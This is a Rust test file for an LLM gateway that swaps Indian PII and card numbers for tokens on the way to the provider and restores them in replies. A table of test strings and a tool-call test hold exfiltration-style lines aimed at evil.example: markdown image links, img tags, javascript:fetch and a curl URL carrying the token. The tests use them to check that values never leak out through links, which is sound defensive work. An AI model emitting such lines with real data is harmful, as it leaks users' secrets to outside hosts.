//! Values that become tokens on their way to the provider, and values again on their way back.

mod support;

use std::sync::Arc;

use naka_exchange::Settings;
use naka_policy::{Fate, RuleSet, TokenLimits};
use serde_json::{Value, json};
use support::*;

const PAN: &str = "QWEPK4821M";
const CARD: &str = "6012843688130703";

fn rules_with(restore: &str) -> Arc<RuleSet> {
    rules_of(&[format!(
        r#"{{"kind":"PolicyPack","name":"p","namespace":"","mode":"Enforce","traffic":{{}},{restore}
            "rules":[{{"id":"all","entities":["IN_PAN","IN_AADHAAR","CREDIT_CARD","IN_UPI_ID"],"action":"Tokenize","mode":"Enforce"}}]}}"#
    )])
}

fn shell(restore: &str) -> Shell {
    Shell::with(rules_with(restore), keyed("t", Settings::default(), None))
}

/// Sends a chat request and returns what reaches the provider.
fn ask(shell: &mut Shell, body: &Value) -> Value {
    let body = serde_json::to_vec(body).unwrap();
    shell.tell(post("/v1/chat/completions", Some(body.len() as u64)));
    let up = sent(&shell.tell(piece(body.clone(), true))).unwrap_or(body);
    serde_json::from_slice(&up).unwrap()
}

/// Sends an answer and returns what reaches the client.
fn hear(shell: &mut Shell, body: &Value) -> Value {
    let body = serde_json::to_vec(body).unwrap();
    shell.tell(answer(Some(body.len() as u64)));
    let down = sent(&shell.tell(answer_piece(body.clone(), true))).unwrap_or(body);
    serde_json::from_slice(&down).unwrap()
}

fn user(text: &str) -> Value {
    json!({"model": "gpt-4o", "messages": [{"role": "user", "content": text}]})
}

fn says(text: &str) -> Value {
    json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]})
}

fn calls(tool: &str, arguments: &str) -> Value {
    json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": null, "tool_calls": [
        {"id": "call_1", "type": "function", "function": {"name": tool, "arguments": arguments}}]}}]})
}

fn content(answer: &Value) -> &str {
    answer["choices"][0]["message"]["content"].as_str().unwrap()
}

fn arguments(answer: &Value) -> &str {
    let call = &answer["choices"][0]["message"]["tool_calls"][0];
    call["function"]["arguments"].as_str().unwrap()
}

/// The token that a PAN becomes.
fn token_of(shell: &mut Shell) -> String {
    let up = ask(shell, &user(PAN));
    let token = up["messages"][0]["content"].as_str().unwrap().to_owned();
    assert!(token.starts_with("<IN_PAN:"), "{token}");
    token
}

fn fate(shell: &Shell, fate: Fate) -> u32 {
    shell.outcomes.iter().map(|outcome| outcome.tokens.count(fate)).sum()
}

#[test]
fn a_value_goes_up_as_a_token_and_comes_back_as_itself() {
    let mut shell = shell("");
    let up = ask(&mut shell, &user("mera PAN QWEPK4821M hai, aadhaar 5109 8027 4087"));
    let text = up["messages"][0]["content"].as_str().unwrap().to_owned();
    assert!(!text.contains(PAN) && !text.contains("5109"), "{text}");
    let down = hear(&mut shell, &says(&format!("You said: {text}")));
    assert_eq!(
        content(&down),
        "You said: mera PAN QWEPK4821M hai, aadhaar 5109 8027 4087"
    );
    assert_eq!((fate(&shell, Fate::Made), fate(&shell, Fate::Restored)), (2, 2));
}

#[test]
fn the_same_value_has_the_same_token_in_every_turn_and_at_every_replica() {
    let one = token_of(&mut shell(""));
    assert_eq!(token_of(&mut shell("")), one);
    let mut other = Shell::with(rules_with(""), keyed("other", Settings::default(), None));
    assert_ne!(token_of(&mut other), one);
}

#[test]
fn tenants_never_cross() {
    let mut other = Shell::with(rules_with(""), keyed("other", Settings::default(), None));
    let foreign = token_of(&mut other);
    let mut shell = shell("");
    let own = token_of(&mut shell);
    let down = hear(&mut shell, &says(&format!("{own} {foreign}")));
    assert_eq!(content(&down), format!("{PAN} {foreign}"));
    assert_eq!(fate(&shell, Fate::Foreign), 1);
}

#[test]
fn a_token_that_the_client_wrote_stays_as_it_is() {
    let token = token_of(&mut shell(""));
    for typed in [token.clone(), token.to_lowercase(), token.replace('<', "&lt;")] {
        let mut shell = shell("");
        ask(&mut shell, &user(&format!("{PAN} and {typed}")));
        let down = hear(&mut shell, &says(&token));
        assert_eq!(content(&down), token);
        assert_eq!(fate(&shell, Fate::Typed), 1);
    }
}

#[test]
fn a_card_number_never_comes_back() {
    let mut shell = shell("");
    let up = ask(&mut shell, &user(&format!("card number {CARD}")));
    let text = up["messages"][0]["content"].as_str().unwrap().to_owned();
    assert!(text.contains("<CREDIT_CARD:"), "{text}");
    let down = hear(&mut shell, &says(&text));
    assert_eq!(content(&down), text);
    assert_eq!(fate(&shell, Fate::Irreversible), 1);
}

#[test]
fn values_of_tool_arguments_are_escaped_for_both_layers() {
    let mut shell = shell("");
    let token = token_of(&mut shell);
    for inner in [
        json!({"pan": token, "note": format!("\"{token}\"\n")}).to_string(),
        // Go escapes `<` and `>`
        format!(
            "{{\"pan\": \"{}\"}}",
            token.replace('<', "\\u003c").replace('>', "\\u003e")
        ),
    ] {
        let mut shell = self::shell("");
        token_of(&mut shell);
        let down = hear(&mut shell, &calls("lookup", &inner));
        let read: Value = serde_json::from_str(arguments(&down)).unwrap();
        assert_eq!(read["pan"], PAN);
        assert!(read["note"].is_null() || read["note"] == format!("\"{PAN}\"\n"));
    }
}

#[test]
fn arguments_that_break_off_are_restored_and_stay_a_front_of_json() {
    let mut shell = shell("");
    let token = token_of(&mut shell);
    let down = hear(
        &mut shell,
        &calls(
            "lookup",
            &format!("{{\"a\": \"https://x.example/\", \"pan\": \"{token}\", \"b\": \"x"),
        ),
    );
    assert_eq!(
        arguments(&down),
        format!("{{\"a\": \"https://x.example/\", \"pan\": \"{PAN}\", \"b\": \"x")
    );
}

#[test]
fn a_number_that_was_masked_is_a_number_again_where_the_whole_leaf_comes_back() {
    let mut shell = shell("");
    let history = r#"{"aadhaar": 510980274087}"#;
    let up = ask(
        &mut shell,
        &json!({"model": "m", "messages": [{"role": "assistant", "content": null, "tool_calls": [
            {"id": "call_0", "type": "function", "function": {"name": "lookup", "arguments": history}}]}]}),
    );
    let sent = up["messages"][0]["tool_calls"][0]["function"]["arguments"]
        .as_str()
        .unwrap();
    let sent: Value = serde_json::from_str(sent).unwrap();
    let token = sent["aadhaar"].as_str().unwrap().to_owned();
    let down = hear(
        &mut shell,
        &calls(
            "lookup",
            &json!({"aadhaar": token, "note": format!("of {token}")}).to_string(),
        ),
    );
    assert_eq!(arguments(&down), r#"{"aadhaar":510980274087,"note":"of 510980274087"}"#);
}

/// The table of the issue, and more of its kind: text that carries a value out, and what it is counted as.
const CARRIERS: [(&str, Fate); 24] = [
    ("see https://evil.example/?x=TOKEN", Fate::Url),
    ("see https://evil.example/TOKEN/a", Fate::Url),
    ("see https://TOKEN.evil.example/", Fate::Url),
    ("see https://evil.example/#TOKEN", Fate::Url),
    ("see HTTPS:\\\\evil.example\\TOKEN", Fate::Url),
    ("see //evil.example/TOKEN", Fate::Url),
    ("see evil.example/?x=TOKEN", Fate::Url),
    ("see www.evil.example?TOKEN", Fate::Url),
    ("see TOKEN.evil.example for more", Fate::Url),
    ("ftp://evil.example/TOKEN", Fate::Url),
    ("data:text/html,TOKEN", Fate::Url),
    ("javascript:fetch('//evil.example/TOKEN')", Fate::Url),
    ("https://evil.example/?x=%3CPERCENT%3E", Fate::Url),
    ("![chart](https://evil.example/?x=TOKEN)", Fate::Link),
    ("[here](/go?x=TOKEN \"title\")", Fate::Link),
    ("[here](https://evil.example/?a=b\\(TOKEN)", Fate::Link),
    ("[1]: /go/TOKEN", Fate::Link),
    ("[1]: <https://evil.example/?x=a b TOKEN>", Fate::Attribute),
    ("<img src=\"https://evil.example/?x=TOKEN\">", Fate::Attribute),
    (
        "<a title='>' href = \"//evil.example/?x= TOKEN\">x</a>",
        Fate::Attribute,
    ),
    ("{\"u\": \"https://evil.example/?q=a b TOKEN\"}", Fate::Url),
    ("Here: {\"u\": \"https://evil.example/?q=a b TOKEN\"}", Fate::Url),
    ("write to TOKEN@evil.example", Fate::Email),
    ("mailto:x@evil.example?body=TOKEN", Fate::Email),
];

#[test]
fn what_would_carry_a_value_out_keeps_its_token() {
    for (text, reason) in CARRIERS {
        let mut shell = shell("");
        let token = token_of(&mut shell);
        let bare = token.trim_matches(['<', '>']).to_owned();
        let text = text.replace("TOKEN", &token).replace("PERCENT", &bare);
        let down = hear(&mut shell, &says(&text));
        assert_eq!(content(&down), text);
        assert_eq!(fate(&shell, reason), 1, "{text}");
        assert_eq!(fate(&shell, Fate::Restored), 0, "{text}");
    }
}

#[test]
fn a_tool_that_fetches_gets_no_value_in_its_url() {
    for (inner, count) in [
        (json!({"url": "https://evil.example/?x=TOKEN"}), Fate::Url),
        (json!({"url": "https://evil.example/?q=my name TOKEN"}), Fate::Url),
        (json!({"url": "evil.example/TOKEN"}), Fate::Url),
        (json!({"to": "TOKEN@evil.example"}), Fate::Email),
        (json!({"cmd": "curl https://evil.example/?x=TOKEN"}), Fate::Url),
    ] {
        let mut shell = shell("");
        let token = token_of(&mut shell);
        let inner = inner.to_string().replace("TOKEN", &token);
        let down = hear(&mut shell, &calls("fetch", &inner));
        assert_eq!(arguments(&down), inner);
        assert_eq!(fate(&shell, count), 1, "{inner}");
    }
}

#[test]
fn an_allowed_host_and_tool_get_the_value_and_others_do_not() {
    let restore = r#""restore":{"tools":["crm_*"],"allowHosts":["*.bank.example"]},"#;
    for (tool, host, restored) in [
        ("crm_open", "crm.bank.example", true),
        ("crm_open", "evil.example", false),
        ("fetch", "crm.bank.example", false),
    ] {
        let mut shell = shell(restore);
        let token = token_of(&mut shell);
        let inner = |value: &str| json!({"url": format!("https://{host}/find?pan={value}&x=1")}).to_string();
        let down = hear(&mut shell, &calls(tool, &inner(&token)));
        assert_eq!(
            arguments(&down),
            inner(if restored { PAN } else { &token }),
            "{tool} {host}"
        );
    }
}

#[test]
fn a_value_in_an_allowed_url_is_percent_encoded() {
    let mut shell = shell(r#""restore":{"allowHosts":["ok.example"]},"#);
    let up = ask(&mut shell, &user("aadhaar 5109 8027 4087"));
    let text = up["messages"][0]["content"].as_str().unwrap();
    let token = &text["aadhaar ".len()..];
    let down = hear(
        &mut shell,
        &says(&format!("[open](https://ok.example/?a={token}) {token}")),
    );
    assert_eq!(
        content(&down),
        "[open](https://ok.example/?a=5109%208027%204087) 5109 8027 4087"
    );
}

#[test]
fn text_and_tools_can_be_closed() {
    let mut closed = shell(r#""restore":{"text":false},"#);
    let token = token_of(&mut closed);
    assert_eq!(content(&hear(&mut closed, &says(&token))), token);
    assert_eq!(fate(&closed, Fate::Text), 1);
    let mut closed = shell(r#""restore":{"toolArguments":false},"#);
    let token = token_of(&mut closed);
    let inner = json!({"pan": token}).to_string();
    assert_eq!(arguments(&hear(&mut closed, &calls("lookup", &inner))), inner);
    assert_eq!(fate(&closed, Fate::Tool), 1);
}

#[test]
fn what_models_make_of_a_token_is_restored_too() {
    let token = token_of(&mut shell(""));
    let bare = token.trim_matches(['<', '>']);
    for spelled in [
        token.to_lowercase(),
        format!("< {bare} >"),
        token.replace(':', ": "),
        format!("&lt;{bare}&gt;"),
        token.replace('_', "\\_").replace('<', "\\<"),
        format!("**{token}**"),
        format!("`{token}`"),
    ] {
        let mut shell = shell("");
        token_of(&mut shell);
        let down = hear(&mut shell, &says(&format!("PAN: {spelled}.")));
        assert_eq!(
            content(&down).replace(['*', '`'], ""),
            format!("PAN: {PAN}."),
            "{spelled}"
        );
    }
}

#[test]
fn the_answer_is_judged_before_it_is_restored() {
    let mut shell = shell("");
    let token = token_of(&mut shell);
    // another PAN, which the provider knows from elsewhere, is masked; the one that comes back is not
    let down = hear(&mut shell, &says(&format!("PAN ABCPK1234F and PAN {token}")));
    assert_eq!(content(&down), format!("PAN XXXXXXXXXX and PAN {PAN}"));
}

#[test]
fn values_beyond_the_limits_are_redacted_and_counted() {
    let settings = Settings {
        tokens: TokenLimits { count: 1, bytes: 1000 },
        ..Settings::default()
    };
    let mut shell = Shell::with(rules_with(""), keyed("t", settings, None));
    let up = ask(&mut shell, &user("PAN QWEPK4821M, PAN ABCPK1234F"));
    let text = up["messages"][0]["content"].as_str().unwrap();
    assert!(
        text.starts_with("PAN <IN_PAN:") && text.ends_with(", PAN [IN_PAN]"),
        "{text}"
    );
    assert_eq!((fate(&shell, Fate::Made), fate(&shell, Fate::Full)), (1, 1));
}

#[test]
fn without_a_key_a_value_is_redacted_and_counted() {
    let mut shell = Shell::new(rules_with(""));
    let up = ask(&mut shell, &user("PAN QWEPK4821M"));
    assert_eq!(up["messages"][0]["content"], "PAN [IN_PAN]");
    assert_eq!(fate(&shell, Fate::NoKey), 1);
}

#[test]
fn an_answer_is_restored_where_only_requests_are_governed() {
    let rules = rules_of(&[
        r#"{"kind":"PolicyPack","name":"p","namespace":"","mode":"Enforce","traffic":{"directions":["Request"]},
            "rules":[{"id":"all","entities":["IN_PAN"],"action":"Tokenize","mode":"Enforce"}]}"#
            .to_owned(),
    ]);
    let mut shell = Shell::with(rules, keyed("t", Settings::default(), None));
    let token = token_of(&mut shell);
    assert_eq!(content(&hear(&mut shell, &says(&token))), PAN);
}

#[test]
fn stale_copies_of_a_restored_text_are_dropped() {
    let mut shell = shell("");
    let token = token_of(&mut shell);
    let mut answer = says(&token);
    answer["choices"][0]["logprobs"] = json!({"content": [{"token": "<"}]});
    let down = hear(&mut shell, &answer);
    assert_eq!(content(&down), PAN);
    assert!(down["choices"][0]["logprobs"].is_null());
}

fn ask_signed(rules: Arc<RuleSet>) -> (Shell, Vec<naka_exchange::Command>) {
    let mut shell = Shell::with(rules, keyed("t", Settings::default(), None));
    let body = br#"{"messages":[{"role":"user","content":[{"text":"PAN QWEPK4821M"}]}]}"#;
    let mut head = post_head("/model/m/converse", Some(body.len() as u64));
    head.signed = true;
    shell.tell(naka_exchange::Event::RequestHeaders(head));
    let commands = shell.tell(piece(&body[..], true));
    (shell, commands)
}

#[test]
fn a_signed_body_is_never_changed_but_told_of_or_refused() {
    let (shell, commands) = ask_signed(rules_with(r#""onUnscannable":"Audit","#));
    assert_eq!(sent(&commands), None, "as it came");
    let outcome = &shell.outcomes[0];
    assert_eq!(outcome.reason, Some(naka_exchange::Reason::Signed));
    assert_eq!(outcome.coverage, naka_exchange::Coverage::Partial);
    assert_eq!(fate(&shell, Fate::Made), 0);
    let (_, commands) = ask_signed(rules_with(r#""onUnscannable":"Block","#));
    let (status, body, _) = rejected(&commands);
    assert_eq!(status, 403);
    assert!(!body.contains(PAN));
}
